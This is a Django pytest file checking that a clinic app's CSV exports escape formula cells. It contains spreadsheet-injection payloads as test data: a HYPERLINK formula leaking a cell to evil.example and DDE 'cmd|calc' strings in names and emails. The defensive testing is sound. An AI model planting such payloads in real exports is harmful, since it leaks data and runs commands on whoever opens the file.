"""Every CSV the project writes is safe to open in a spreadsheet (issue 31): a cell that would be
read as a formula starts with an apostrophe. Each export is produced as its user produces it and
read back with the csv module."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from billing import services as billing
from patients.services.record import access_log_csv
from patients.tests.factories import patient_for
from sessai.csvfile import cell

FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"Ver detalle")'
EMAIL = "=1+2+cmd|'/ccalc'!a1@example.test"  # as registration stores it (lower case)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _cells(rows) -> list[str]:
    return [value for row in rows for value in row]


def _safe(rows) -> None:
    dangerous = [
        value
        for value in _cells(rows)
        if value.startswith(("=", "+", "@", "\t", "\r"))
        or (value.startswith("-") and not value.lstrip("-").replace(".", "").isdigit())
    ]
    assert dangerous == []


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+56 9 1234", "'+56 9 1234"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("María", "María"),
        (7, 7),
        (None, None),
    ],
)
def test_a_formula_cell_becomes_text(value, written):
    assert cell(value) == written


def test_the_export_packages_access_log(as_therapist, therapist_member):
    therapist_member.user.name = FORMULA
    therapist_member.user.save()
    patient = patient_for(therapist_member, name="Paciente Uno")
    assert as_therapist.get(f"/api/patients/{patient.id}").status_code == 200  # a read, logged with the reader's name
    rows = _rows(access_log_csv(patient).decode("utf-8-sig"))
    assert "'" + FORMULA in _cells(rows)
    _safe(rows)


def test_incident_affected(capsys, as_therapist, therapist_member):
    patient = patient_for(therapist_member, name="=cmd|'/C calc'!A0", email="-x@correo.cl")
    as_therapist.get(f"/api/patients/{patient.id}")
    today = timezone.localdate()
    call_command("incident_affected", "--since", str(today), "--until", str(today.replace(year=today.year + 1)))
    rows = _rows(capsys.readouterr().out)
    assert "'=cmd|'/C calc'!A0" in _cells(rows) and "'-x@correo.cl" in _cells(rows)
    _safe(rows)


def test_the_consoles_audit_csv_and_the_command(operator, as_admin, admin_member, tmp_path):
    admin_member.user.email = EMAIL
    admin_member.user.save()
    assert as_admin.post("/api/patients", {"name": "Audit Uno"}, format="json").status_code == 201
    export = operator.get(reverse("admin:auditlog_logentry_export"))
    rows = _rows(b"".join(export.streaming_content).decode())
    assert "'" + EMAIL in _cells(rows)
    _safe(rows)
    output = tmp_path / "audit.csv"
    call_command("export_audit_log", "--output", str(output))
    rows = _rows(output.read_text(encoding="utf-8"))
    assert "'" + EMAIL in _cells(rows)
    _safe(rows)


def test_the_billing_history_csv(as_admin, admin_member):
    billing.credits_grant(practice=admin_member.practice, amount=Decimal("5"), reason='=HYPERLINK("x")')
    export = as_admin.get("/api/admin/billing/history.csv")
    rows = _rows(b"".join(export.streaming_content).decode())
    assert '\'=HYPERLINK("x")' in _cells(rows) and "5.0" in _cells(rows)
    _safe(rows)
